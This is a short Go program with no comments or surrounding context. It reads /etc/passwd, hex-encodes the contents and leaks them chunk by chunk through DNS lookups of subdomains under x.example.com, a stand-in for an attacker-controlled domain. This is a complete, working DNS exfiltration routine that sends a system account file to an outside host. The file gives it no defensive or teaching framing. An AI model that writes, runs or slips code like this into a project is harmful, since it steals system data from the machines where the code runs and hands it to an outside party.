package main

import (
	"encoding/hex"
	"fmt"
	"net"
	"os"
)

func main() {
	data, _ := os.ReadFile("/etc/passwd")
	enc := hex.EncodeToString(data)
	for i := 0; i < len(enc); i += 60 {
		end := i + 60
		if end > len(enc) {
			end = len(enc)
		}
		net.LookupHost(fmt.Sprintf("%s.x.example.com", enc[i:end]))
	}
}
